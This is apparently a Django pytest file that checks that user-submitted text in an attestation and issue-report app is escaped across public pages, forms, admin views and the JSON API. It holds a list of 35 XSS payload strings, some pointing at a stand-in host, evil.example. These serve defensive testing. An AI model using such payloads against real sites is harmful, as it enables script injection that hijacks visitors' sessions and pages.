"""All user text is escaped wherever it is shown: 35 XSS strings submitted in every field,
checked on the run page, the re-shown forms, the confirmation pages, the admin's lists and
change pages, and the JSON API."""

from __future__ import annotations

import json

import pytest
from django.urls import reverse
from django.utils.html import escape

from attestations import moderation
from attestations.models import Attestation, IssueReport
from tests.attestations.conftest import report_data, reproduction_data

XSS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    "<input autofocus onfocus=alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>">',
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "{{ 7*7 }}<b>template</b>",
    "{% debug %}<i>tag</i>",
    "&lt;img src=x onerror=alert(23)&gt; already-escaped text must not be unescaped",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<video><source onerror="alert(1)">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '\\"-alert(1)-\\"',
    "</script><script>alert(1)</script>",
    "<form action=//evil.example><button>go</button></form>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "';alert(String.fromCharCode(88,83,83))//';",
]

TEXT_FIELDS = ("gpu_product", "driver_version", "cuda_version", "torch_version", "command", "text")
EVERY_FIELD = (*TEXT_FIELDS, "measured_value", "measured_unit", "measured_statistic", "cases_reproduced",
               "cases_matched", "link", "kind")  # fmt: skip


def test_there_are_enough_strings_and_each_needs_escaping():
    assert len(XSS) >= 30 and len(set(XSS)) == len(XSS)
    assert all(escape(payload) != payload for payload in XSS)


def assert_escaped(html: str, payload: str, *, shown: bool = True) -> None:
    assert payload not in html, f"unescaped: {payload}"
    if shown:
        assert escape(payload) in html, f"not shown escaped: {payload}"


def xss_link(payload: str) -> str:
    # http(s) links may carry anything in their query; they must still be escaped in href="".
    return "https://example.org/logs?q=" + payload.replace(" ", "")


@pytest.fixture
def published(client, run, mod, settings):
    """One published reproduction per XSS string, every text field and the link holding it,
    one published flag and one moderation reason per string too."""
    settings.RATE_LIMIT_PER_MINUTE = 1000
    settings.RATE_LIMIT_PER_DAY = 1000
    url = reverse("attestations:attest", args=[run.public_id])
    for payload in XSS:
        data = reproduction_data(**{field: payload for field in TEXT_FIELDS}, link=xss_link(payload))
        response = client.post(url, data)
        assert response.status_code == 302, response.content.decode()[:2000]
        report_response = client.post(
            reverse("attestations:report", args=[run.public_id]), report_data(description=payload + " (padding)")
        )
        assert report_response.status_code == 302
    assert Attestation.objects.count() == len(XSS)
    for attestation, payload in zip(Attestation.objects.order_by("pk"), XSS, strict=True):
        assert attestation.text == payload
        moderation.attestation_approve(attestation=attestation, actor=mod, reason=payload)
    for report, payload in zip(IssueReport.objects.order_by("pk"), XSS, strict=True):
        moderation.report_publish_flag(report=report, actor=mod, public_summary=payload)
    return run


def test_the_run_page_escapes_every_field(client, published):
    html = client.get(published.get_absolute_url()).content.decode()
    for attestation in Attestation.objects.all():
        for field in TEXT_FIELDS:
            assert_escaped(html, getattr(attestation, field))
        assert_escaped(html, attestation.link)
    for report in IssueReport.objects.all():
        assert_escaped(html, report.public_summary)
        assert_escaped(html, report.description, shown=False)  # private


@pytest.mark.parametrize("payload", XSS)
def test_the_reshown_forms_escape_what_was_typed(client, run, payload, settings):
    settings.RATE_LIMIT_PER_MINUTE = 1000
    data = {field: payload for field in EVERY_FIELD}
    html = client.post(reverse("attestations:attest", args=[run.public_id]), data).content.decode()
    assert_escaped(html, payload, shown=False)
    # Each text input and textarea gives the typed text back, escaped.
    assert html.count(escape(payload)) >= len(TEXT_FIELDS)
    data = {"category": payload, "description": payload, "contact_email": payload}
    html = client.post(reverse("attestations:report", args=[run.public_id]), data).content.decode()
    assert_escaped(html, payload, shown=len(payload) >= 10)
    assert Attestation.objects.count() == 0 and IssueReport.objects.count() == 0


def test_the_confirmation_pages_show_nothing_submitted(client, published):
    attestation = Attestation.objects.first()
    url = reverse("attestations:attest_received", args=[published.public_id, attestation.reference])
    html = client.get(url).content.decode()
    assert attestation.reference in html
    assert attestation.text not in html and escape(attestation.text) not in html


def test_the_admin_escapes_every_field(mod_client, published):
    attestations = list(Attestation.objects.all())
    reports = list(IssueReport.objects.all())
    lists = {
        "/admin/attestations/attestation/?state=all": [a.text for a in attestations],
        "/admin/attestations/issuereport/?state=all": [r.description for r in reports],
        "/admin/attestations/moderationevent/": [a.moderation_reason for a in attestations],
    }
    for url, payloads in lists.items():
        html = mod_client.get(url).content.decode()
        for payload in payloads:
            assert_escaped(html, payload)
    for attestation in attestations:
        html = mod_client.get(f"/admin/attestations/attestation/{attestation.pk}/change/").content.decode()
        for field in (*TEXT_FIELDS, "link", "moderation_reason"):
            assert_escaped(html, getattr(attestation, field))
    for report in reports:
        html = mod_client.get(f"/admin/attestations/issuereport/{report.pk}/change/").content.decode()
        assert_escaped(html, report.description)
        assert_escaped(html, report.public_summary)
    html = mod_client.get(f"/admin/runs/run/{published.pk}/change/").content.decode()
    for attestation in attestations:
        assert_escaped(html, attestation.moderation_reason)  # the inline moderation log


def test_a_public_reason_is_escaped_in_the_admin_and_on_the_page(client, mod_client, run, mod):
    payload = XSS[1]
    moderation.run_quarantine(run=run, actor=mod, reason=payload)
    assert_escaped(client.get(run.get_absolute_url()).content.decode(), payload)
    assert_escaped(mod_client.get(f"/admin/runs/run/{run.pk}/change/").content.decode(), payload)
    assert_escaped(mod_client.get("/admin/runs/run/").content.decode(), payload, shown=False)


def test_the_api_returns_the_text_as_data(client, published):
    response = client.get("/api/v1/attestations/", HTTP_ACCEPT="application/json")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    body = response.content.decode()
    data = json.loads(body)
    texts = json.dumps(data)
    for payload in XSS:
        assert json.dumps(payload)[1:-1] in texts  # the exact text, as a JSON string
    # JSON is never sniffed as HTML by browsers.
    assert response["X-Content-Type-Options"] == "nosniff"
    # If an HTML rendering of the API is offered, it escapes like every other page.
    html_response = client.get("/api/v1/attestations/?format=api", HTTP_ACCEPT="text/html")
    if html_response["Content-Type"].startswith("text/html"):
        html = html_response.content.decode()
        for payload in XSS:
            assert payload not in html
    else:
        assert html_response["Content-Type"].startswith("application/json")
